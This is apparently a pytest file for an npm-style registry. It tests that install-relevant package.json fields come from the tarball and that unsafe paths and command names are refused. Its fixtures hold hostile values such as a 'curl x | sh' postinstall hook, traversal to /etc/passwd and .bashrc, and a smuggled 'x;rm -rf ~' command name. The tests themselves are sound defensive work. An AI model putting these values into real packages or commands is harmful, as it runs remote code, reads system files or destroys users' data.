"""The served version document: install-relevant fields come from the tarball, paths are safe."""

from __future__ import annotations

from typing import Any

import pytest

from r13core.errors import InvalidPublish
from r13core.names import PackageName
from r13core.registry.manifest import FROM_TARBALL, check_paths, clean_path, version_document
from r13core.tarball import TarballInfo

A = PackageName.parse("widget")
S = PackageName.parse("@acme/widget")


def info(files: set[str] | None = None, bundled: bool = False, **pkg: Any) -> TarballInfo:
    manifest = {"name": "widget", "version": "1.0.0", **pkg}
    names = frozenset(files or set()) | {"package.json"}
    return TarballInfo(manifest, False, len(names), 0, names, bundled)


def served(body: dict[str, Any] | None = None, name: PackageName = A, **kw: Any) -> dict[str, Any]:
    manifest = {"name": str(name), "version": "1.0.0", **(body or {})}
    tar = info(**kw)
    if name != A:
        tar = TarballInfo({**tar.manifest, "name": str(name)}, False, 1, 0, tar.files)
    return version_document(manifest, tar, name)


# -- manifest confusion: every install-relevant field is the tarball's ---------------------

# (field, what the body claims, what the tarball's package.json says, what is served)
CONFUSED: list[tuple[str, Any, Any, Any]] = [
    ("dependencies", {"lodash": "^4"}, {"lodash": "^4", "evil": "^1"}, None),
    ("devDependencies", {}, {"jest": "29"}, None),
    ("optionalDependencies", {}, {"fsevents": "^2"}, None),
    ("peerDependencies", {"react": "*"}, {"react": "^17"}, None),
    ("peerDependenciesMeta", {}, {"react": {"optional": True}}, None),
    ("bundleDependencies", [], ["lodash"], None),
    ("acceptDependencies", {}, {"a": "^2"}, None),
    ("bin", {"widget": "ok.js"}, {"widget": "evil.js"}, None),
    ("directories", {"lib": "lib"}, {"lib": "dist"}, None),
    ("man", ["man/ok.1"], ["man/evil.1"], None),
    ("main", "ok.js", "evil.js", None),
    ("scripts", {"test": "jest"}, {"test": "jest", "postinstall": "curl x | sh"}, None),
    ("gypfile", False, True, None),
    ("os", ["linux"], ["darwin"], None),
    ("cpu", ["x64"], ["arm64"], None),
    ("libc", ["glibc"], ["musl"], None),
    ("engines", {"node": ">=18"}, {"node": ">=4"}, None),
]


@pytest.mark.parametrize(
    ("field", "claimed", "truth", "expected"), CONFUSED, ids=[c[0] for c in CONFUSED]
)
def test_the_tarball_wins_over_the_body(
    field: str, claimed: Any, truth: Any, expected: Any
) -> None:
    doc = served({field: claimed}, **{field: truth})
    assert doc[field] == (truth if expected is None else expected)


@pytest.mark.parametrize("field", [c[0] for c in CONFUSED])
def test_a_field_the_tarball_lacks_is_not_served_from_the_body(field: str) -> None:
    claimed = next(c[1] for c in CONFUSED if c[0] == field)
    assert field not in served({field: claimed})


def test_every_field_that_changes_an_install_is_covered() -> None:
    assert set(FROM_TARBALL) - {"name", "version"} == {c[0] for c in CONFUSED}


def test_bundled_dependencies_spelled_the_old_way_are_served_as_bundle_dependencies() -> None:
    doc = served({"bundleDependencies": []}, bundledDependencies=["a"], dependencies={"a": "1"})
    assert doc["bundleDependencies"] == ["a"]
    assert "bundledDependencies" not in doc
    assert served(bundleDependencies=True, dependencies={"a": "1", "b": "2"})[
        "bundleDependencies"
    ] == ["a", "b"]
    assert "bundleDependencies" not in served(
        {"bundleDependencies": ["x"]}, bundleDependencies=False
    )


def test_descriptive_fields_come_from_the_body() -> None:
    doc = served(
        {"description": "from body", "gitHead": "abc", "_npmVersion": "11", "keywords": ["k"]},
        description="from tarball",
    )
    assert doc["description"] == "from body"
    assert (doc["gitHead"], doc["_npmVersion"], doc["keywords"]) == ("abc", "11", ["k"])


def test_client_claims_of_derived_fields_are_dropped() -> None:
    body = {"hasInstallScript": True, "_hasShrinkwrap": True, "_hasTypes": True, "dist": {"x": 1}}
    doc = served(body)
    assert "hasInstallScript" not in doc and "_hasTypes" not in doc and "dist" not in doc
    assert doc["_hasShrinkwrap"] is False


# -- install scripts ----------------------------------------------------------------------


@pytest.mark.parametrize("hook", ["preinstall", "install", "postinstall"])
def test_has_install_script_is_derived_from_the_tarball(hook: str) -> None:
    assert served({}, scripts={hook: "node x"})["hasInstallScript"] is True
    assert "hasInstallScript" not in served({"scripts": {hook: "x"}}, scripts={"test": "x"})


def test_a_root_gyp_file_adds_node_gyp_rebuild_as_npm_does() -> None:
    doc = served({}, files={"binding.gyp"})
    assert doc["scripts"] == {"install": "node-gyp rebuild"}
    assert doc["gypfile"] is True
    assert doc["hasInstallScript"] is True
    off = served({}, files={"binding.gyp"}, gypfile=False)
    assert "hasInstallScript" not in off and "scripts" not in off
    own = served({}, files={"binding.gyp"}, scripts={"install": "make"})
    assert own["scripts"] == {"install": "make"}
    assert "hasInstallScript" not in served({}, files={"src/binding.gyp"})


def test_an_install_script_of_a_bundled_dependency_sets_has_install_script() -> None:
    assert served({}, bundled=True)["hasInstallScript"] is True


def test_scripts_are_normalised_like_npm_publish() -> None:
    doc = served(
        {}, scripts={"test": "node_modules/.bin/jest", "x": 1, "build": "./node_modules/.bin/tsc"}
    )
    assert doc["scripts"] == {"test": "jest", "build": "tsc"}
    assert "scripts" not in served({}, scripts="not an object")


def test_has_shrinkwrap_is_derived_from_the_files() -> None:
    assert served({}, files={"npm-shrinkwrap.json"})["_hasShrinkwrap"] is True
    assert served({"_hasShrinkwrap": True})["_hasShrinkwrap"] is False


# -- bin, man, directories ----------------------------------------------------------------


def test_bin_forms_become_an_object_of_clean_paths() -> None:
    assert served({}, bin="./cli.js")["bin"] == {"widget": "cli.js"}
    assert served({}, name=S, bin="cli.js")["bin"] == {"widget": "cli.js"}
    assert served({}, bin=["./bin/a.js", "b"])["bin"] == {"a.js": "bin/a.js", "b": "b"}
    assert served({}, bin={"w": "./bin//w.js", "bad": 5})["bin"] == {"w": "bin/w.js"}
    assert "bin" not in served({}, bin={})
    assert "bin" not in served({}, bin=12)


def test_directories_bin_is_expanded_from_the_tarball_files() -> None:
    files = {"bin/a", "bin/sub/b.js", "bin/.hidden", "bin/.dir/c", "lib/x.js"}
    doc = served(
        {"bin": {"a": "bin/a", "evil": "lib/x.js"}}, files=files, directories={"bin": "./bin"}
    )
    assert doc["bin"] == {"a": "bin/a", "b.js": "bin/sub/b.js"}


def test_directories_bin_with_two_files_of_one_name_is_refused() -> None:
    with pytest.raises(InvalidPublish, match="two files named 'a'"):
        served({}, files={"bin/a", "bin/x/a"}, directories={"bin": "bin"})


def test_man_is_a_list_and_directories_man_is_expanded() -> None:
    assert served({}, man="./man/w.1")["man"] == ["man/w.1"]
    files = {"man/w.1", "man/sub/w.5", "man/readme.md"}
    assert served({}, files=files, directories={"man": "man"})["man"] == ["man/sub/w.5", "man/w.1"]


# -- unsafe paths (item 2) ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("pkg", "match"),
    [
        ({"bin": "../../../usr/bin/node"}, "leaves the package"),
        ({"bin": {"w": "/etc/passwd"}}, "absolute path"),
        ({"bin": {"w": "bin\\..\\..\\x"}}, "not a safe path"),
        ({"bin": {"w": "C:\\Windows\\evil.exe"}}, "character ':'"),
        ({"bin": {"w": "x\x00.js"}}, "character"),
        ({"bin": {"w": "."}}, "names no file"),
        ({"bin": {"w": ""}}, "names no file"),
        ({"bin": {"../../.bashrc": "x.js"}}, "not a safe command name"),
        ({"bin": {"a/b": "x.js"}}, "not a safe command name"),
        ({"bin": {"a\\b": "x.js"}}, "not a safe command name"),
        ({"bin": {"..": "x.js"}}, "not a safe command name"),
        ({"bin": {".": "x.js"}}, "not a safe command name"),
        ({"bin": {"-rf": "x.js"}}, "not a safe command name"),
        ({"bin": {"a b": "x.js"}}, "not a safe command name"),
        ({"bin": {"": "x.js"}}, "not a safe command name"),
        ({"bin": {"x;rm -rf ~": "x.js"}}, "not a safe command name"),
        ({"directories": {"bin": "../../bin"}}, "leaves the package"),
        ({"directories": {"bin": 5}}, "must be a string path"),
        ({"directories": {"lib": "/usr/lib"}}, "absolute"),
        ({"directories": "bin"}, "directories must be an object"),
        ({"man": "../../../etc/x.1"}, "leaves the package"),
        ({"man": ["/usr/share/man/man1/ls.1"]}, "absolute"),
        ({"main": "../../index.js"}, "leaves the package"),
        ({"main": "/etc/passwd"}, "absolute"),
        ({"main": "lib\\index.js"}, "character"),
        ({"main": ["index.js"]}, "main must be a string"),
        ({"dependencies": ["a"]}, "dependencies must be an object"),
        ({"dependencies": {"a": 1}}, r"dependencies\['a'\] must be a string"),
        ({"peerDependencies": {"a": None}}, "must be a string"),
        ({"peerDependenciesMeta": {"a": True}}, "must be an object of objects"),
        ({"bundleDependencies": "a"}, "bundleDependencies must be a list"),
    ],
)
def test_unsafe_or_malformed_fields_are_refused_naming_the_field(
    pkg: dict[str, Any], match: str
) -> None:
    with pytest.raises(InvalidPublish, match=match) as caught:
        served({}, **pkg)
    assert str(caught.value).startswith("package.json in the tarball: ")


def test_directories_bin_file_with_an_unsafe_name_is_refused() -> None:
    with pytest.raises(InvalidPublish, match="not a safe command name"):
        served({}, files={"bin/-rf"}, directories={"bin": "bin"})


@pytest.mark.parametrize("main", ["", ".", "./", "index", "./lib/index.js"])
def test_ordinary_main_values_are_served_as_written(main: str) -> None:
    assert served({}, main=main)["main"] == main


def test_check_paths_guards_the_served_document() -> None:
    check_paths({"bin": {"w": "cli.js"}, "man": ["m.1"], "main": "i.js", "directories": {}})
    for bad in ({"bin": "cli.js"}, {"bin": {"w": "../x"}}, {"man": "m.1"}, {"main": "/x"}):
        with pytest.raises(InvalidPublish):
            check_paths(bad)


def test_clean_path_matches_npms_unixified_form() -> None:
    assert clean_path("./a//b/./c.js", "x") == "a/b/c.js"
    assert clean_path("a/b/", "x") == "a/b"
